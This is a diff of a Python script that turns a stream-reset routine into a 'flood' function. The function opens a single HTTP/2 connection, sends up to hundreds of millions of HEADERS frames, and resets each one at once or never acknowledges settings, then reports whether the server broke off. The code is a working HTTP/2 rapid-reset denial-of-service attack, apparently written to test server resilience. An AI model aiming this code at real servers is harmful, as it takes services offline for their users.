@@ -27,23 +27,25 @@ def headers_of(method):
     return b"".join(header(*field) for field in fields)
 
 
-def reset_at_once(address, method, count, seconds=60):
-    """Makes so many calls over one connection to "unix:PATH" or "HOST:PORT", in so long at most, and resets each at once; the number of
-    those that were sent before the server broke off."""
+def flood(address, method, seconds, resets, count=1 << 29):
+    """Makes calls over one connection to "unix:PATH" or "HOST:PORT", as many and as fast as the server reads them, and resets each at once,
+    or never acknowledges how many there may be; how many were sent, and whether the server broke off."""
     block, at_once, start = headers_of(method), 100, time.monotonic()
+    end = 0 if resets else 1  # END_STREAM: no message comes
     with connect(address) as connection, contextlib.suppress(ConnectionError):
         threading.Thread(target=read_to_the_end, args=[connection.dup()], daemon=True).start()
-        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
         for first in range(0, count, at_once):
             if time.monotonic() - start - seconds > 0:
-                return first
+                return first, False
+            calls = range(2 * first + 1, 2 * min(first + at_once, count) + 1, 2)
             try:
-                connection.sendall(b"".join(frame(HEADERS, 4, 2 * k + 1, block) + frame(RESET, 0, 2 * k + 1, b"\0\0\0\x08")
-                                            for k in range(first, first + at_once)))
+                connection.sendall(b"".join(frame(HEADERS, 4 | end, call, block) +
+                                            (frame(RESET, 0, call, b"\0\0\0\x08") if resets else b"") for call in calls))
             except ConnectionError:
-                return first
+                return first, True
         connection.shutdown(socket.SHUT_WR)
-    return count
+    return count, False
 
 
 def connect(address):
